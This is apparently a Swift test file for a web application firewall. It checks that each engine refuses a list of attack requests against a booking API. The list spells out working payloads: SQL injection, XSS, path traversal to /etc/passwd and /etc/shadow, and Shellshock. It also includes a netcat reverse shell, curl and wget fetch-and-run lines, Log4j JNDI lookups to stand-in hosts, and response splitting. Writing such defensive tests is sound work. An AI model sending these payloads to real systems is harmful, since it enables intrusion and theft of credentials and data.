import HTTP
import Testing

@testable import Firewall

/// What every engine must refuse.
@Suite struct AttackTests {
    private static let avail = "/api/booking-engine/availability"

    @Test("An attack is refused, wherever it stands", arguments: EngineKind.allCases, attacks)
    func isRefused(kind: EngineKind, attack: TestRequest) throws {
        let finding = try kind.inspect(attack.request)
        #expect(finding.refusal == .forbidden && finding.isComplete && !finding.matches.isEmpty, "\(finding)")
    }

    static let attacks: [TestRequest] = [
        // SQL
        .get("\(avail)?hotel_id=1'%20OR%20'1'='1").called("SQL in a query"),
        .get("\(avail)?hotel_id=1%20UNION%20SELECT%20name,pass%20FROM%20users--").called("SQL UNION in a query"),
        .get("\(avail)?hotel_id=1;DROP%20TABLE%20bookings;--").called("SQL statement in a query"),
        .get("\(avail)?hotel_id=1%20AND%20SLEEP(5)").called("SQL by time in a query"),
        .get(avail, ("Cookie", "session=1' OR 1=1-- -")).called("SQL in a cookie"),
        .json(#"{"guest":{"name":"x' OR 1=1; --"}}"#).called("SQL in a JSON value"),
        .json(#"{"x' UNION SELECT password FROM users --":1}"#).called("SQL in a JSON key"),
        .json(#"{"a":[[{"b":["1 UNION ALL SELECT NULL,version()--"]}]]}"#).called("SQL deep in JSON"),
        .json(#"{"name":"x\u0027 OR 1=1; --"}"#).called("SQL in an escaped JSON value"),
        .form("name=x'+OR+1%3D1%3B+--").called("SQL in a form"),
        // Scripts
        .get("\(avail)?q=%3Cscript%3Ealert(1)%3C/script%3E").called("script in a query"),
        .get("\(avail)?%3Csvg/onload=alert(1)%3E=1").called("script in a parameter's name"),
        .get("/api/%3Cscript%3Ealert(1)%3C/script%3E").called("script in the path"),
        .get(avail, ("Referer", "https://x.example/<script>alert(1)</script>")).called("script in the Referer field"),
        .get(avail, ("User-Agent", "<img src=x onerror=alert(1)>")).called("script in the User-Agent field"),
        .json(#"{"comment":"<img src=x onerror=alert(document.cookie)>"}"#).called("script in a JSON value"),
        .json(#"{"comment":"\u003cscript\u003ealert(1)\u003c/script\u003e"}"#).called("script in an escaped value"),
        .form("comment=%3Csvg+onload%3Dalert(1)%3E").called("script in a form"),
        // Files
        .get("/api/../../../../etc/passwd").called("path traversal in the path"),
        .get("/api/%2e%2e/%2e%2e/etc/passwd").called("encoded path traversal in the path"),
        .get("/api/%252e%252e/%252e%252e/etc/passwd").called("doubly encoded path traversal in the path"),
        .get("\(avail)?file=../../../../etc/passwd").called("path traversal in a query"),
        .get("\(avail)?file=/proc/self/environ").called("system file in a query"),
        .json(#"{"photo":"../../../../etc/shadow"}"#).called("path traversal in a JSON value"),
        .get("\(avail)?url=http://198.51.100.7/shell.txt?").called("remote file in a query"),
        // What follows a %3F is path as well.
        .get("/api/hotels%3F/../../../etc/passwd").called("path traversal after %3F"),
        .get("/api/hotels%3fx/%3Cscript%3Ealert(1)%3C/script%3E").called("script after %3f"),
        .get("/api/hotels%3Fx/%24%7Bjndi:ldap://x.example/a%7D").called("JNDI after %3F"),
        .get("/api/x%3F/wp-config.php.bak%3F;cat%20/etc/passwd").called("command after %3F"),
        // Commands
        .get("\(avail)?host=localhost;cat%20/etc/passwd").called("command in a query"),
        .get("\(avail)?host=%24(curl%20http://x.example/x%7Csh)").called("command substitution in a query"),
        .get(avail, ("User-Agent", "() { :;}; /bin/bash -c 'id'")).called("Shellshock"),
        .json(#"{"name":"`wget http://x.example/x.sh -O- | sh`"}"#).called("command in a JSON value"),
        .json(#"{"name":"x; nc -e /bin/sh 198.51.100.7 4444"}"#).called("reverse shell in a JSON value"),
        // Log4j
        .get("\(avail)?q=%24%7Bjndi:ldap://x.example/a%7D").called("JNDI in a query"),
        .get(avail, ("X-Api-Version", "${jndi:ldap://x.example/a}")).called("JNDI in a field"),
        .get(avail, ("User-Agent", "${${lower:j}ndi:ldap://x.example/a}")).called("nested JNDI in a field"),
        .get(avail, ("Authorization", "Bearer ${jndi:ldap://x.example/a}")).called("JNDI in a token"),
        .json(#"{"comment":"${jndi:dns://x.example/a}"}"#).called("JNDI in a JSON value"),
        // The protocol
        .get("\(avail)?q=a%0d%0aSet-Cookie:%20admin=1").called("response splitting in a query"),
        .get("\(avail)?q=a%0d%0a%0d%0aHTTP/1.1%20200%20OK").called("an answer in a query"),
        .get("\(avail)?q=a%00b").called("NUL in a query"),
        .json(#"{"name":"a\u0000b"}"#).called("NUL in a JSON value"),
        .get("/api/a%00/b").called("NUL in the path"),
        .get(avail, ("User-Agent", "sqlmap/1.7")).called("a scanner"),
        // Templates, scripts of the server
        .json(#"{"name":"<?php system('id'); ?>"}"#).called("PHP in a JSON value"),
        .json(#"{"name":"require('child_process').exec('id')"}"#).called("Node.js in a JSON value"),
        .json(#"{"name":"java.lang.Runtime.getRuntime().exec('id')"}"#).called("Java in a JSON value"),
    ]
}
